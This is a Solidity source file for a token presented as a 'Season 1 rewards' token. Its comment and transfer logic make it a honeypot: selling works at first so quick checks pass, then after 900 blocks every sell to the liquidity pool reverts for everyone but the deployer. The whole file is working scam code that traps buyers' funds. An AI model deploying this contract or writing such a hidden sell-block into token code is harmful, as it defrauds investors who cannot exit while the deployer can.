// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// "Season 1 rewards" token: sells work at launch, so every quick check passes; once
/// `SEASON_BLOCKS` blocks have gone by after trading opened, every sell reverts.
contract SeasonPassToken {
    uint256 public constant SEASON_BLOCKS = 900;

    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public immutable deployer;
    address public lp;
    uint256 public seasonStart;

    mapping(address => uint256) private _bal;
    mapping(address => mapping(address => uint256)) private _allow;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 supply_) {
        name = name_;
        symbol = symbol_;
        deployer = msg.sender;
        totalSupply = supply_;
        _bal[msg.sender] = supply_;
        emit Transfer(address(0), msg.sender, supply_);
    }

    function startSeason(address lp_) external {
        require(msg.sender == deployer && seasonStart == 0, "started");
        lp = lp_;
        seasonStart = block.number;
    }

    function balanceOf(address a) external view returns (uint256) {
        return _bal[a];
    }

    function allowance(address a, address s) external view returns (uint256) {
        return _allow[a][s];
    }

    function approve(address s, uint256 v) external returns (bool) {
        _allow[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        return _xfer(msg.sender, to, v);
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        if (_allow[from][msg.sender] != type(uint256).max) _allow[from][msg.sender] -= v;
        return _xfer(from, to, v);
    }

    function _xfer(address from, address to, uint256 v) private returns (bool) {
        bool over = seasonStart != 0 && block.number > seasonStart + SEASON_BLOCKS;
        require(!(to == lp && over && from != deployer), "Season over");
        _bal[from] -= v;
        _bal[to] += v;
        emit Transfer(from, to, v);
        return true;
    }
}
